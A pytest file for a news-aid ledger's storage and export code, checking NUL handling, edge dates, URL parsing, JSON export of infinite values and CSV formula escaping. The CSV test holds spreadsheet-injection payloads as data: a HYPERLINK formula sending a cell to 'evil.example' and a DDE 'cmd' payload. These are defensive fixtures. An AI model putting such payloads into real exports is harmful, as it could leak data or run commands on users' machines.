"""What the open web puts in the ledger, on SQLite and PostgreSQL alike: stored the same on both, exported safely."""

from __future__ import annotations

import csv
import io
import json
import subprocess

import pytest
from sqlalchemy import select, text

from aidledger.ledger import Ledger
from aidledger.ledger.export import mention_rows, package_rows, write_csv, write_json
from aidledger.ledger.models import Article, Mention
from aidledger.ledger.store import outlet_of
from tests.ledger.records import article, commitment

TEXT = "The United States will provide $325 million in military aid to Ukraine, officials said on Tuesday."


def test_a_nul_in_id_and_text_is_stored_as_a_replacement_character_on_both_backends(db_url):
    ledger = Ledger(db_url)
    body = TEXT[:10] + "\x00" + TEXT[11:]
    document, extraction = article("wire\x00-1", body, "2023-06-13", commitments=[commitment(body, amount=325e6)])
    assert ledger.add(document, extraction).new
    with ledger.sessions() as session:
        stored = session.scalars(select(Article)).one()
        assert stored.source_id == "wire\ufffd-1" and len(stored.text) == len(TEXT) and stored.text[10] == "\ufffd"


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
def test_dates_at_the_ends_of_the_calendar_are_stored(db_url, day):
    ledger = Ledger(db_url)
    document, extraction = article("edge", TEXT, day, commitments=[commitment(TEXT, amount=325e6, currency="USD", date=day)])
    assert ledger.add(document, extraction).new
    second, extraction2 = article("edge-2", TEXT + " Again.", day, commitments=[commitment(TEXT, amount=325e6, date=day)])
    assert ledger.add(second, extraction2).new


def test_a_url_with_an_overlong_host_has_no_outlet():
    assert outlet_of("https://" + "a" * 300 + ".com/x") is None
    assert outlet_of("http://[::1") is None
    assert outlet_of("https://www.example.org/a") == "example.org"


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(db_url):
    ledger = Ledger(db_url)
    evidence = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
    document, extraction = article(
        "@SUM(1+1)", evidence, "2023-06-13", url="+cmd|' /C calc'!A0", commitments=[commitment(evidence, amount=5e6)]
    )
    ledger.add(document, extraction)
    out = io.StringIO()
    with ledger.sessions() as session:
        write_csv(mention_rows(session), out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["source_id"] == "'@SUM(1+1)" and row["url"].startswith("'+") and row["evidence"].startswith("'=")
    assert float(row["amount"]) == 5e6


def test_json_export_of_a_ledger_holding_inf_is_valid_json(db_url):
    ledger = Ledger(db_url)
    document, extraction = article("inf", TEXT, "2023-06-13", commitments=[commitment(TEXT, amount=325e6)])
    ledger.add(document, extraction)
    with ledger._writes.begin() as session:  # amounts are whole numbers, but rates are floats on both backends
        session.execute(text("UPDATE packages SET fx_rate = :inf"), {"inf": float("inf")})
    out = io.StringIO()
    with ledger.sessions() as session:
        write_json(mention_rows(session) + package_rows(session), out)
    rows = json.loads(out.getvalue())
    assert rows[-1]["package_id"] is not None and rows[-1]["fx_rate"] is None


@pytest.fixture
def read_only_folder(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(folder)], capture_output=True).returncode:
        pytest.skip("cannot mount a read-only file system here (needs root)")
    yield folder
    subprocess.run(["umount", str(folder)], check=True)


def test_a_ledger_on_a_read_only_file_system_is_named_as_such(read_only_folder):
    from typer.testing import CliRunner

    from aidledger.cli import _register, app

    _register()
    result = CliRunner().invoke(app, ["ingest", "samples/wire.jsonl", "--db", str(read_only_folder / "x.db")])
    assert result.exit_code == 2
    assert "read-only file system" in result.output and len(result.output.strip().splitlines()) == 1


def test_mentions_keep_their_evidence_offsets_after_storing(db_url):
    ledger = Ledger(db_url)
    document, extraction = article("offsets", TEXT, "2023-06-13", commitments=[commitment(TEXT, amount=325e6)])
    ledger.add(document, extraction)
    with ledger.sessions() as session:
        mention = session.scalars(select(Mention)).one()
        assert document.text[mention.evidence_start : mention.evidence_end] == mention.evidence
